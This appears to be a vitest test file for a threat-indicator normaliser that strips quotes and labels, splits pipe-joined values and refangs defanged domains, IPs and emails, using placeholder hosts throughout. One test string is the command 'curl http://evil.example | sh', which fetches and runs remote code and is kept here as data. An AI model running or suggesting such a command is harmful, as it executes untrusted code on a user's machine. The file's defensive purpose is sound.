import { expect, test } from 'vitest';
import { indicatorForms, readParts, splitComposite, unwrapValue } from './indicator-forms.ts';

const sha256 = 'a'.repeat(64);

test.each([
  ['"evil.example"', 'evil.example', 'quotation marks removed'],
  ['“evil.example”,', 'evil.example', 'quotation marks removed', 'punctuation removed'],
  ['<http://evil.example/a>', 'http://evil.example/a', 'brackets removed'],
  ['(203.0.113.7)', '203.0.113.7', 'brackets removed'],
  ['[evil[.]example]', '[evil[.]example]'],
  ['[evil.example]', 'evil.example', 'brackets removed'],
  ['[2001:db8::1]', '[2001:db8::1]'],
  [`SHA-256: ${sha256}`, sha256, 'label removed'],
  [`md5=${'b'.repeat(32)}`, 'b'.repeat(32), 'label removed'],
  ['mailto:user@evil.example', 'user@evil.example', 'label removed'],
  ['`203.0.113.7`;', '203.0.113.7', 'quotation marks removed', 'punctuation removed'],
  ['203.0.113.7.', '203.0.113.7', 'punctuation removed'],
  ['url://a', 'url://a'],
  ['""', '""'],
  ['', ''],
])('reads %s as %s', (value, text, ...corrections) => {
  expect(unwrapValue(value)).toEqual({ text, corrections });
});

test.each([
  ['evil.example|203.0.113.7', ['evil.example', '203.0.113.7']],
  [`run.exe|${sha256}`, ['run.exe', sha256]],
  ['203.0.113.7|8080', ['203.0.113.7|8080']],
  ['curl http://evil.example | sh', ['curl http://evil.example | sh']],
  ['a||b', ['a||b']],
  ['http://evil.example/a|b', ['http://evil.example/a|b']],
  ['1|2|3|4|5', ['1|2|3|4|5']],
])('splits %s into %j', (text, parts) => {
  expect(splitComposite(text)).toEqual(parts);
});

/** Notations and the stored form that they must find. */
test.each([
  ['evil.example|203.0.113.7', 'evil.example'],
  ['evil.example|203.0.113.7', '203.0.113.7'],
  [`Setup.exe|${sha256.toUpperCase()}`, sha256],
  ['1.2.3.4:8080', '1.2.3.4'],
  ['hxxps://evil[.]example/x', 'https://evil.example/x'],
  ['user@evil[.]example', 'user@evil.example'],
  ['User[at]Evil[.]Example', 'user@evil.example'],
  ['evil.example.', 'evil.example'],
  ['BÜCHER.example', 'xn--bcher-kva.example'],
  ['xn--bcher-kva.example', 'xn--bcher-kva.example'],
  ['http://evil.example:8080/x', 'http://evil.example:8080/x'],
  ['<hxxp://EVIL[.]example:80/x>', 'http://evil.example/x'],
  ["'203[.]0[.]113[.]7'", '203.0.113.7'],
  ['192[.]0[.]2[.]7/24', '192.0.2.0/24'],
  ['as64496', 'AS64496'],
  [String.raw`"C:\Program Files\a.exe" -x`, String.raw`"C:\Program Files\a.exe" -x`],
])('a look-up of %s finds %s', (value, form) => {
  expect(indicatorForms(value)).toContain(form);
});

test('says what was corrected', () => {
  expect(readParts('"203.0.113.7:8080"').map(({ corrections }) => corrections)).toEqual([
    ['quotation marks removed', 'port 8080 removed'],
  ]);
  expect(readParts('evil.example').map(({ corrections }) => corrections)).toEqual([[]]);
});
